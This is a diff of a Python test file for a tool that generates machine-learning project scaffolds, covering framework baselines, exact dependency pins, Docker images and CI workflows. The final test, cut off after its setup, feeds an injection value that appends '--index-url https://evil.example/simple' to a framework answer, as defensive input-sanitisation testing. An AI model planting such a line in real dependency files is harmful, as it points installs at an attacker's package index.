@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import csv
+import importlib.util
 import json
+import re
 import subprocess
 import sys
 from pathlib import Path
@@ -14,6 +16,7 @@ import yaml
 from app.core.errors import UserError
 from app.environment.scaffold import CI_TEMPLATES, export_scaffold, scaffold_files
 from app.environment.service import EnvironmentService, form_of
+from app.hearing import AnswerService
 from app.main import main
 
 
@@ -23,6 +26,17 @@ def run(args: list[str], cwd: Path) -> subprocess.CompletedProcess:
 
 @pytest.fixture
 def scaffold(workspace, demo, tmp_path: Path) -> Path:
+    return export_scaffold(workspace, demo.id, tmp_path / "repo", "ja")
+
+
+def name_no_framework(workspace, project_id: int) -> None:
+    """The hearing names no framework: the baseline is plain Python, runnable here."""
+    AnswerService(workspace.db, workspace.library).update(project_id, "hearing.prereq.frameworks", value="")
+
+
+@pytest.fixture
+def plain_scaffold(workspace, demo, tmp_path: Path) -> Path:
+    name_no_framework(workspace, demo.id)
     return export_scaffold(workspace, demo.id, tmp_path / "repo", "ja")
 
 
@@ -58,7 +72,8 @@ def test_the_dataset_lists_follow_the_data_platform(scaffold: Path) -> None:
     assert {r["split"] for r in listed} == {"train", "test"} and all(len(r["sha256"]) == 64 for r in listed)
 
 
-def test_the_pipeline_skeleton_runs_as_it_is(scaffold: Path) -> None:
+def test_the_pipeline_skeleton_runs_as_it_is(plain_scaffold: Path) -> None:
+    scaffold = plain_scaffold
     first = run(["run_pipeline.py", "--note", "baseline", "--issue", "3"], scaffold)
     assert first.returncode == 0, first.stderr
     assert "preprocess done" in first.stdout and "recorded" in first.stdout
@@ -75,11 +90,10 @@ def test_the_pipeline_skeleton_runs_as_it_is(scaffold: Path) -> None:
                           "評価サマリ", "顧客報告", "関連IssueNo", "担当者", "備考"]
     assert records[1][0] == "baseline" and records[1][4] == "baseline" and records[1][8] == "3"
     assert "sample_v001.csv sha256:" in records[1][2]  # the model can be traced to its data
-    tests = run(["-m", "unittest", "discover", "-s", "tests"], scaffold)
-    assert tests.returncode == 0, tests.stderr
 
 
-def test_a_changed_data_file_is_caught(scaffold: Path) -> None:
+def test_a_changed_data_file_is_caught(plain_scaffold: Path) -> None:
+    scaffold = plain_scaffold
     sample = scaffold / "data" / "sample" / "sample_train.csv"
     sample.write_text(sample.read_text(encoding="utf-8") + "9,9,1\n", encoding="utf-8")
     result = run(["run_pipeline.py"], scaffold)
@@ -88,6 +102,7 @@ def test_a_changed_data_file_is_caught(scaffold: Path) -> None:
 
 def test_the_input_script_output_layout_runs_too(workspace, demo, tmp_path: Path) -> None:
     EnvironmentService(workspace).set_value(demo.id, "directory_template", "pipeline_io")
+    name_no_framework(workspace, demo.id)
     out = export_scaffold(workspace, demo.id, tmp_path / "io", "en")
     assert (out / "scripts" / "train.py").is_file() and (out / "input" / "datasets" / "sample_v001.csv").is_file()
     result = run(["run_pipeline.py"], out)
@@ -102,14 +117,64 @@ def test_every_ci_system_gets_a_workflow_that_runs_the_pipeline(workspace, demo,
     path = form_of(workspace).field("ci_system").option(ci).value
     files = scaffold_files(workspace, demo.id, "en")
     text = files[path].decode("utf-8")
-    assert "run_pipeline.py" in text and "unittest discover" in text
+    assert "run_pipeline.py" in text and "python -m pytest" in text
     if path.endswith(".yml"):
         assert isinstance(yaml.safe_load(text), dict)
 
 
-def test_user_text_cannot_add_lines_to_generated_files(workspace, demo) -> None:
-    from app.hearing.answers import AnswerService
+def _pins(text: str) -> dict[str, str]:
+    lines = [line.split("  #")[0] for line in text.splitlines() if line.strip() and not line.startswith("#")]
+    assert all(re.fullmatch(r"[a-z0-9-]+==\d+(\.\d+)*", line) for line in lines), lines  # exact versions only
+    return dict(line.split("==") for line in lines)
 
+
+@pytest.mark.parametrize(
+    ("answer", "gpu", "module", "packages"),
+    [
+        ("PyTorch", "no", "torch", {"torch"}),
+        ("TensorFlow 2系", "no", "tensorflow", {"tensorflow", "numpy"}),
+        ("LightGBM", "no", "lightgbm", {"lightgbm", "numpy", "scipy"}),
+        ("scikit-learn", "no", "sklearn", {"scikit-learn", "numpy", "scipy"}),
+        ("まずsklearn、精度が出なければPyTorch", "no", "sklearn", {"scikit-learn", "numpy", "scipy", "torch"}),
+        ("JAX", "no", "", set()),
+        ("", "no", "", set()),
+    ],
+)
+def test_the_hearing_framework_gives_the_baseline_and_its_pinned_dependencies(
+    workspace, demo, answer: str, gpu: str, module: str, packages: set[str]
+) -> None:
+    AnswerService(workspace.db, workspace.library).update(demo.id, "hearing.prereq.frameworks", value=answer)
+    EnvironmentService(workspace).set_value(demo.id, "gpu", gpu)
+    files = scaffold_files(workspace, demo.id, "en")
+    model = files["src/model.py"].decode("utf-8")
+    assert f'MODULE = "{module}"' in model  # the first framework named gives the baseline
+    assert not re.search(r"^import (torch|tensorflow|lightgbm|sklearn)", model, re.MULTILINE)  # imported when used
+    requirements = files["requirements.txt"].decode("utf-8")
+    assert set(_pins(requirements)) == packages
+    assert ("No baseline for these here" in requirements) == (answer == "JAX")
+    dev = _pins(files["requirements-dev.txt"].decode("utf-8"))
+    assert set(dev) == {"pytest", "ruff"}
+    config = json.loads(files["configs/pipeline.json"].decode("utf-8"))
+    assert (config["train"]["method"] == "nearest_centroid") == (not module)
+
+
+def test_a_base_image_that_ships_the_framework_gives_its_version(workspace, demo) -> None:
+    files = scaffold_files(workspace, demo.id, "en")  # the demo: PyTorch on a GPU, the PyTorch image
+    image = files["Dockerfile"].decode("utf-8").splitlines()[3].removeprefix("FROM ")
+    assert image.startswith("pytorch/pytorch:2.3.1-")
+    assert _pins(files["requirements.txt"].decode("utf-8")) == {"torch": "2.3.1"}  # no second, different torch
+
+
+def test_without_its_framework_the_pipeline_says_what_to_install(scaffold: Path) -> None:
+    if importlib.util.find_spec("torch"):
+        pytest.skip("PyTorch is installed here")
+    result = run(["run_pipeline.py"], scaffold)
+    assert result.returncode != 0
+    assert "preprocess done" in result.stdout  # the data steps need no framework
+    assert "PyTorch is not installed: pip install -r requirements.txt" in result.stderr
+
+
+def test_user_text_cannot_add_lines_to_generated_files(workspace, demo) -> None:
     AnswerService(workspace.db, workspace.library).update(
         demo.id, "hearing.prereq.frameworks", value="PyTorch\n--index-url https://evil.example/simple"
     )
